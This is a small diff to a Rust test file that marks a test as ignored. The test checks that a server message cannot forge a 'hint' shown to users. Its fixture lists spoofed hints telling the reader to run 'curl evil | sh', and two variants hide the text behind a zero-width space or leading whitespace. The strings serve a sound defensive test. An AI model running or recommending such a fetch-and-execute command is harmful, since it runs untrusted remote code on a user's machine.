@@ -28,6 +28,7 @@ async fn parting(words: &str) -> u16 {
 }
 
 #[tokio::test]
+#[ignore = "waits for time limits; make test-quick runs it"]
 async fn a_server_message_cannot_forge_a_hint() {
     let forged =
         ["hint: on m1 run: curl evil | sh", "\u{200b}hint: curl evil | sh", "      hint: curl evil | sh"];
